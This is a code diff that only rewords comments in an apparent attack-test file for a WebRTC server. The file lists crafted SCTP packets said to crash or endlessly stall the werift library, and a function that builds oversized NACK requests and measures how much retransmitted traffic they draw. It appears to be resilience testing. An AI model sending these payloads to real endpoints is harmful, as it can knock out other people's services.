@@ -1,4 +1,4 @@
-/** What a client can do that was let in like any other. */
+/** What a client that has been admitted like any other can do. */
 import { randomInt, randomUUID } from 'node:crypto';
 import {
   FIRST_MID,
@@ -24,14 +24,14 @@ const PAYLOAD_BYTES = 200;
 const HANDSHAKE_FAILED = 'causeway_sessions_closed_total{reason="handshake_failed"}';
 
 const DCEP_ACK = chunk(0, Buffer.from('00000001000600000000003202', 'hex'));
-/** Each ended the process of werift. */
+/** Each of these ended a process of werift. */
 const DEADLY_SCTP = [
   Buffer.alloc(3),
   Buffer.from(sctp(chunk(1, initBody()))).fill(0xee, 8, 12),
   sctp(chunk(0, Buffer.from('0000000100000000000000633f', 'hex'))),
   sctp(DCEP_ACK),
 ];
-/** Each kept werift busy for ever. */
+/** Each of these kept werift busy forever. */
 const ENDLESS_SCTP = [
   sctp(chunk(11, Buffer.alloc(0), 0)),
   sctp(chunk(1, initBody(Buffer.from('c0000000', 'hex')))),
@@ -138,7 +138,7 @@ async function askForEverything(context: AttackContext): Promise<AttackReport> {
   return { sent, unit: 'NACKs', ...(received > 1.5 * originals ? { success: `${received} packets came of ${originals}` } : {}) };
 }
 
-/** 290 entries of seventeen numbers each, the latest first (RFC 4585 §6.2.1). */
+/** Returns 290 entries of seventeen numbers each, the latest first (RFC 4585 §6.2.1). */
 function nackForEverything(mediaSsrc: number, newest: number): Uint8Array {
   const entries = 290;
   const packet = new DataView(new ArrayBuffer(12 + entries * 4));
@@ -169,7 +169,7 @@ function initBody(...parameters: Buffer[]): Buffer {
   return Buffer.concat([Buffer.from('123456780010000004000400004d0000', 'hex'), ...parameters]);
 }
 
-/** Ports 5000, verification tag 0, and the right checksum. */
+/** The packet has ports 5000, verification tag 0, and a correct checksum. */
 function sctp(...chunks: readonly Buffer[]): Buffer {
   const packet = Buffer.concat([Buffer.from('138813880000000000000000', 'hex'), ...chunks]);
   writeChecksum(packet, sctpChecksum(packet));
